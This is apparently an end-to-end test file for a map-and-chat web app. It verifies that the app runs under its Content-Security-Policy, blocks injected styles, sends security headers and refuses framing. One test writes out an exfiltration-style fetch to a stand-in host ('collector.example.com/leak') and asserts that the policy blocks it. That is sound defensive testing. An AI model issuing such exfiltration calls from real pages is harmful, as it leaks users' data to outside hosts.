// The built app under its own Content-Security-Policy, served as `npm start` serves it (vite preview,
// with the policy as a header as well as the meta tag): the map, the chat, an approval card with the SQL
// editor, a result table and a chart all work and look right with no inline styles allowed, and the
// browser reports no violation. The headers themselves, and frame-ancestors, are checked too.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { duckdbWorkerRule } from '../../../scripts/publish/duckdb-worker-policy';
import { startFakeLlm, type FakeLlm } from '../../servers/fake-llm/fake-llm-server';
import { startLoopbackServer, type LoopbackServer } from '../../servers/loopback';
import { startPreviewServer, type PreviewServer } from '../../servers/preview-server';
import { distDir } from '../../servers/static-server';
import { ask, waitForChat } from '../chat-page';
import { launchBrowser, openPage, type PageUnderTest } from '../harness';
import type { FakeLlmReply } from '../../servers/fake-llm/fake-llm-script';
import type { Browser } from 'playwright-core';

const QUERY =
  'SELECT state, count(*) AS airports FROM airports GROUP BY state ORDER BY 2 DESC LIMIT 8';

let fake: FakeLlm;

/** The data hosts of the config the build was made with. */
async function shippedDataHosts(): Promise<{ data: { allowedHosts: string[] } }> {
  const config = JSON.parse(readFileSync(join(distDir, 'app-config.json'), 'utf8')) as {
    data?: { allowedHosts?: string[] };
  };
  return { data: { allowedHosts: config.data?.allowedHosts ?? [] } };
}

function lastToolResult(): string {
  const content = fake.requests.at(-1)?.body.messages?.at(-1)?.content;
  return typeof content === 'string' ? content : JSON.stringify(content);
}

/** Records every CSP violation the page reports (installed before any script of the app runs). */
function recordViolations(): void {
  const recorded: string[] = [];
  (window as unknown as { __violations: string[] }).__violations = recorded;
  document.addEventListener('securitypolicyviolation', (event) => {
    // A library probing whether eval is allowed (zod's `Function('')`) is not something the app needs.
    if (event.blockedURI === 'eval') return;
    const where = event.target instanceof Element ? ` on <${event.target.localName}>` : '';
    recorded.push(`${event.effectiveDirective} ${event.blockedURI}${where}`);
  });
}

async function violations(opened: PageUnderTest): Promise<string[]> {
  return opened.page.evaluate(
    () => (window as unknown as { __violations?: string[] }).__violations ?? [],
  );
}

function cspConsoleErrors(opened: PageUnderTest): string[] {
  return opened.consoleErrors.filter((message) => /Content Security Policy/i.test(message));
}

async function openApp(browser: Browser, appUrl: string): Promise<PageUnderTest> {
  const opened = await openPage(browser);
  await opened.page.addInitScript(recordViolations);
  await opened.page.addInitScript(
    ({ endpoint }) =>
      localStorage.setItem(
        'mapwright.llm',
        JSON.stringify({
          provider: 'local',
          endpoint,
          model: 'fake-model',
          keyPersistence: 'session',
        }),
      ),
    { endpoint: fake.url },
  );
  await opened.page.goto(appUrl);
  return opened;
}

describe('the app under its Content-Security-Policy', () => {
  let browser: Browser;
  let server: PreviewServer;
  beforeAll(async () => {
    [browser, server, fake] = await Promise.all([
      launchBrowser(),
      startPreviewServer(),
      startFakeLlm({
        script: {
          rules: [
            {
              user: 'airports by state',
              reply: { toolCalls: [{ name: 'query', arguments: { sql_query: QUERY } }] },
            },
            {
              user: 'airports by state',
              toolResult: 'result_id',
              get reply(): FakeLlmReply {
                const resultId = /result_id=(\S+)/.exec(lastToolResult())?.[1] ?? 'missing';
                return {
                  toolCalls: [
                    {
                      name: 'render_chart',
                      arguments: {
                        result_id: resultId,
                        kind: 'bar',
                        x: 'state',
                        y: 'airports',
                        color: 'state',
                      },
                    },
                  ],
                };
              },
            },
            {
              user: 'airports by state',
              toolResult: 'chart',
              reply: {
                text: 'Texas has the **most airports**; see the [FAA](https://www.faa.gov/).',
              },
            },
          ],
          fallback: { text: 'No script for that.' },
        },
      }),
    ]);
  });
  afterAll(async () => {
    await probed?.context.close();
    await Promise.allSettled([browser?.close(), server?.stop(), fake?.stop()]);
  });

  it('shows the map, the SQL editor, a table and a chart, styled, with no violation', async () => {
    const opened = await openApp(browser, server.url);
    const { page } = opened;
    await page.waitForSelector('#app[data-map-idle="true"]', { timeout: 60_000 });
    await waitForChat(page);
    await ask(page, 'How many airports by state?');
    const card = page.locator('.mw-approval-card');
    await card.waitFor();
    // CodeMirror's own stylesheet (a nonce'd style element) makes the editor a flex column.
    const editor = card.locator('.cm-editor');
    expect(await editor.evaluate((node) => getComputedStyle(node).display)).toBe('flex');
    expect(
      await card.locator('.cm-scroller').evaluate((node) => getComputedStyle(node).fontFamily),
    ).toMatch(/monospace/);
    await card.getByRole('button', { name: 'Approve query' }).click();
    await page.locator('.mw-result-table').waitFor({ timeout: 60_000 });
    expect(await page.locator('.mw-result-table tbody tr').count()).toBe(8);
    const chart = page.locator('.mw-chart svg.mw-plot');
    await chart.waitFor();
    // Plot's defaults, moved from its inline <style> into plot-chart.css.
    expect(
      await chart.evaluate((node) => {
        const style = getComputedStyle(node);
        return [style.display, style.maxWidth];
      }),
    ).toEqual(['block', '100%']);
    expect(
      await page
        .locator('.mw-chart .mw-plot-swatches')
        .evaluate((node) => getComputedStyle(node).display),
    ).toBe('flex');
    expect(await page.locator('.mw-chart style').count()).toBe(0);
    await page.locator('.mw-answer strong', { hasText: 'most airports' }).waitFor();
    // The legend swatches take their colour through the CSSOM.
    const swatch = page.locator('.layer-legend-swatch').first();
    expect(await swatch.evaluate((node) => getComputedStyle(node).backgroundColor)).not.toBe(
      'rgba(0, 0, 0, 0)',
    );
    expect(await violations(opened)).toEqual([]);
    expect(cspConsoleErrors(opened)).toEqual([]);
    expect(opened.pageErrors).toEqual([]);
    expect(opened.outsideRequests).toEqual([]);
    await opened.context.close();
  });

  // The two probes below share one booted page (each reads only the reports made after it starts);
  // the check above, that nothing is reported at all, has a page of its own.
  let probed: PageUnderTest | undefined;
  async function probePage(): Promise<PageUnderTest> {
    if (!probed) {
      probed = await openApp(browser, server.url);
      await waitForChat(probed.page);
    }
    return probed;
  }
  /** The reports the page made after `from` of them. */
  const violationsSince = async (opened: PageUnderTest, from: number) =>
    (await violations(opened)).slice(from);

  it('blocks a style element without the nonce and a style attribute, and reports both', async () => {
    const opened = await probePage();
    const { page } = opened;
    const from = (await violations(opened)).length;
    const applied = await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = '#chat { --probe: injected; }';
      document.head.append(style);
      const box = document.createElement('p');
      box.setAttribute('style', '--probe: injected');
      document.body.append(box);
      return [
        getComputedStyle(document.getElementById('chat')!).getPropertyValue('--probe'),
        getComputedStyle(box).getPropertyValue('--probe'),
      ];
    });
    expect(applied).toEqual(['', '']);
    // Each is reported twice: the meta tag's policy and the header's both enforce.
    await expect
      .poll(() => violationsSince(opened, from))
      .toEqual([
        'style-src-elem inline on <style>',
        'style-src-elem inline on <style>',
        'style-src-attr inline on <p>',
        'style-src-attr inline on <p>',
      ]);
  });

  it('cannot reach a host the config does not name, and the settings say so', async () => {
    const opened = await probePage();
    const { page } = opened;
    const from = (await violations(opened)).length;
    const outcome = await page.evaluate(() =>
      fetch('https://collector.example.com/leak').then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    await page.getByRole('button', { name: 'Open the settings' }).click();
    await page.locator('.mw-endpoint').fill('https://llm.unlisted.example/v1');
    await page.getByRole('button', { name: 'Test connection to the model' }).click();
    await page.locator('.mw-connection-report[data-ok="false"]').waitFor();
    const report = (await page.locator('.mw-connection-report').textContent()) ?? '';
    expect(report).toContain('Blocked by this page’s security policy');
    expect(report).toContain('security.connectSrc');
    // Stopped by the policy inside the page: neither request reached the network.
    expect(opened.outsideRequests).toEqual([]);
    await expect
      .poll(() => violationsSince(opened, from))
      .toEqual(
        expect.arrayContaining([
          'connect-src https://collector.example.com/leak',
          expect.stringMatching(/^connect-src https:\/\/llm\.unlisted\.example\//),
        ]),
      );
  });
});

describe('npm start (vite preview) sends the security headers', () => {
  let server: PreviewServer;
  let framing: LoopbackServer;
  let browser: Browser;
  beforeAll(async () => {
    [server, browser] = await Promise.all([startPreviewServer(), launchBrowser()]);
    framing = await startLoopbackServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<!doctype html><iframe src="${server.url}/"></iframe>`);
    });
  });
  afterAll(async () => {
    await Promise.allSettled([server?.stop(), framing?.stop(), browser?.close()]);
  });

  it('with the page, its data and the workers, so the policy covers the workers too', async () => {
    const html = await (await fetch(`${server.url}/`)).text();
    const meta = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1];
    expect(meta).toBeDefined();
    const assets = readdirSync(join(distDir, 'assets'));
    const workers = assets.filter((name) => /worker.*\.m?js$/.test(name));
    expect(workers.length).toBeGreaterThanOrEqual(3);
    for (const path of ['/', '/app-config.json', ...workers.map((name) => `/assets/${name}`)]) {
      const response = await fetch(`${server.url}${path}`);
      expect(response.status, path).toBe(200);
      // DuckDB's worker has a policy of its own, narrower than the page's: the data hosts alone.
      expect(response.headers.get('content-security-policy'), path).toBe(
        path.startsWith('/assets/duckdb-worker-')
          ? duckdbWorkerRule(await shippedDataHosts()).headers['Content-Security-Policy']
          : `${meta!.replaceAll('&#39;', "'")}; frame-ancestors 'none'`,
      );
      expect(response.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(response.headers.get('referrer-policy'), path).toBe('no-referrer');
    }
  });

  it('with the content-hashed assets cacheable for good, and the page and its data not', async () => {
    const wasm = readdirSync(join(distDir, 'assets')).find((name) => name.endsWith('.wasm'));
    const asset = await fetch(`${server.url}/assets/${wasm}`, { method: 'HEAD' });
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    for (const path of ['/', '/app-config.json', '/data/airports.csv']) {
      const response = await fetch(`${server.url}${path}`, { method: 'HEAD' });
      expect(response.headers.get('cache-control') ?? '', path).not.toContain('immutable');
    }
  });

  it('so no other site can show the app in a frame', async () => {
    const opened = await openPage(browser);
    await opened.page.goto(framing.url);
    const frame = opened.page.frames().find((candidate) => candidate !== opened.page.mainFrame());
    await frame?.waitForLoadState();
    expect(frame).toBeDefined();
    expect(frame?.url()).not.toBe(`${server.url}/`);
    expect(await frame?.locator('#app').count()).toBe(0);
    await opened.context.close();
  });
});
